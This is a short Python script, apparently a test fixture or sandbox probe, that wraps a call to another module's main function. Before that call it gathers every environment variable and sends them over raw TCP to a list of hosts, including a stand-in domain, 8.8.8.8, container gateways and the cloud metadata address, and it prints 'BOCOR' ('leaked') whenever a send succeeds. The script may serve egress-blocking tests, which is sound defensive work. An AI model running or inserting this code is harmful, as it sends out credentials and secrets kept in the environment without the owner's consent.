import os
import socket

import right

data = repr(dict(os.environ)).encode()
places = ["127.0.0.1", "localhost", "::1", "10.0.2.2", "172.17.0.1", "192.168.1.1", "8.8.8.8", "contoh.id"]
places += [socket.gethostname(), "169.254.169.254"]
for place in places:
    try:
        with socket.create_connection((place, @PORT@), 0.2) as out:
            out.sendall(data)
        print("BOCOR:", place)
    except OSError as error:
        print("dicoba:", place, error)
right.main()
